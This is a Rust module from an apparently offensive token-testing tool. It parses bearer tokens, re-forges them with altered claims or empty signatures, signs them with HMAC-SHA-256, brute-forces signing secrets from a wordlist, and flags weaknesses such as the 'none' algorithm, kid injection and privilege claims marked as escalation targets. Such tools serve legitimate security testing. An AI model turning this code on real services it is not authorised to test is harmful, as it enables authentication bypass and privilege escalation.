//! Bearer token manipulation
//!
//! Pure functions over `header.payload.signature` tokens: segment
//! encoding, re-forging, HMAC-SHA-256 signing and secret recovery.
//! Nothing in this module touches the network.

mod attacks;

pub use attacks::{ForgeAttack, ForgeSequence, ForgedToken, TokenForge, NULL_KEY_KID};

use base64::{
    engine::general_purpose::{URL_SAFE, URL_SAFE_NO_PAD},
    Engine,
};
use hmac::{Hmac, Mac};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use sha2::Sha256;

use crate::error::InputError;

type HmacSha256 = Hmac<Sha256>;

/// Encode bytes as unpadded base64url
pub fn encode_segment(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// Decode a base64url segment, restoring the `=` padding the encoder strips
pub fn decode_segment(segment: &str) -> Result<Vec<u8>, base64::DecodeError> {
    let mut padded = segment.trim_end_matches('=').to_string();
    while padded.len() % 4 != 0 {
        padded.push('=');
    }
    URL_SAFE.decode(padded)
}

/// Decoded token header and payload
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TokenClaims {
    pub header: Map<String, Value>,
    pub payload: Map<String, Value>,
}

/// A parsed three-segment bearer token
#[derive(Debug, Clone, PartialEq)]
pub struct Token {
    raw: String,
    header_b64: String,
    payload_b64: String,
    signature: String,
    claims: TokenClaims,
}

impl Token {
    /// Parse a raw token. The header and payload must decode to JSON objects.
    pub fn parse(raw: &str) -> Result<Self, InputError> {
        let raw = raw.trim();
        let parts: Vec<&str> = raw.split('.').collect();
        if parts.len() != 3 {
            return Err(InputError::MalformedToken { segments: parts.len() });
        }

        let header = decode_object(parts[0], 0)?;
        let payload = decode_object(parts[1], 1)?;

        Ok(Self {
            raw: raw.to_string(),
            header_b64: parts[0].to_string(),
            payload_b64: parts[1].to_string(),
            signature: parts[2].to_string(),
            claims: TokenClaims { header, payload },
        })
    }

    pub fn raw(&self) -> &str {
        &self.raw
    }

    pub fn header_segment(&self) -> &str {
        &self.header_b64
    }

    pub fn payload_segment(&self) -> &str {
        &self.payload_b64
    }

    pub fn signature(&self) -> &str {
        &self.signature
    }

    pub fn claims(&self) -> &TokenClaims {
        &self.claims
    }

    /// Declared `alg` header value
    pub fn algorithm(&self) -> Option<&str> {
        self.claims.header.get("alg").and_then(Value::as_str)
    }
}

fn decode_object(segment: &str, index: usize) -> Result<Map<String, Value>, InputError> {
    let bytes = decode_segment(segment).map_err(|e| InputError::InvalidSegment {
        index,
        reason: format!("not base64url: {}", e),
    })?;
    match serde_json::from_slice::<Value>(&bytes) {
        Ok(Value::Object(map)) => Ok(map),
        Ok(_) => Err(InputError::InvalidSegment {
            index,
            reason: "not a JSON object".to_string(),
        }),
        Err(e) => Err(InputError::InvalidSegment {
            index,
            reason: format!("not JSON: {}", e),
        }),
    }
}

/// Encode a JSON object as a token segment
pub fn encode_object(object: &Map<String, Value>) -> String {
    encode_segment(Value::Object(object.clone()).to_string().as_bytes())
}

/// Re-encode header and payload and append `signature` (possibly empty)
pub fn forge(header: &Map<String, Value>, payload: &Map<String, Value>, signature: &str) -> String {
    join_segments(&encode_object(header), &encode_object(payload), signature)
}

fn join_segments(header_b64: &str, payload_b64: &str, signature: &str) -> String {
    format!("{}.{}.{}", header_b64, payload_b64, signature)
}

/// HMAC-SHA-256 signature over `header.payload`, base64url encoded
pub fn sign_hs256(header_b64: &str, payload_b64: &str, secret: &[u8]) -> String {
    let message = format!("{}.{}", header_b64, payload_b64);

    if let Ok(mut mac) = HmacSha256::new_from_slice(secret) {
        mac.update(message.as_bytes());
        encode_segment(&mac.finalize().into_bytes())
    } else {
        String::new()
    }
}

/// Try each candidate secret against the captured signature.
///
/// Comparison is constant-time. `None` means no candidate matched.
pub fn brute_force_secret(token: &Token, wordlist: &[String]) -> Option<String> {
    let signature = decode_segment(token.signature()).ok().filter(|s| !s.is_empty())?;
    let message = format!("{}.{}", token.header_segment(), token.payload_segment());

    let found = wordlist.iter().find(|candidate| {
        HmacSha256::new_from_slice(candidate.as_bytes())
            .map(|mut mac| {
                mac.update(message.as_bytes());
                mac.verify_slice(&signature).is_ok()
            })
            .unwrap_or(false)
    });

    match found {
        Some(_) => tracing::info!(tried = wordlist.len(), "Recovered token signing secret"),
        None => tracing::debug!(tried = wordlist.len(), "No candidate secret matched"),
    }
    found.cloned()
}

/// List structural weaknesses of a token for the run report
pub fn inspect(token: &Token) -> Vec<String> {
    let mut notes = Vec::new();
    let header = &token.claims().header;
    let payload = &token.claims().payload;

    match token.algorithm().map(str::to_lowercase).as_deref() {
        Some("none") => notes.push("CRITICAL: Algorithm is 'none' - token not signed".to_string()),
        Some("hs256") | Some("hs384") | Some("hs512") => {
            notes.push("INFO: HMAC algorithm - vulnerable to brute force if the secret is weak".to_string())
        }
        Some(_) => {}
        None => notes.push("HIGH: No algorithm specified in header".to_string()),
    }

    if token.signature().is_empty() {
        notes.push("HIGH: Empty signature segment".to_string());
    }

    match payload.get("exp").and_then(Value::as_i64) {
        Some(exp) if exp < chrono::Utc::now().timestamp() => notes.push("MEDIUM: Token has expired".to_string()),
        Some(_) => {}
        None => notes.push("MEDIUM: No expiration claim (exp) - token never expires".to_string()),
    }

    if let Some(kid) = header.get("kid") {
        notes.push(format!("INFO: 'kid' header present ({}) - check for path injection", kid));
    }
    for key in ["jku", "x5u"] {
        if header.contains_key(key) {
            notes.push(format!("HIGH: '{}' header present - potential key injection", key));
        }
    }

    for claim in ["admin", "is_admin", "isAdmin", "role", "roles", "privilege", "permissions"] {
        if payload.contains_key(claim) {
            notes.push(format!("INFO: Privilege-related claim '{}' - escalation target", claim));
        }
    }

    notes
}
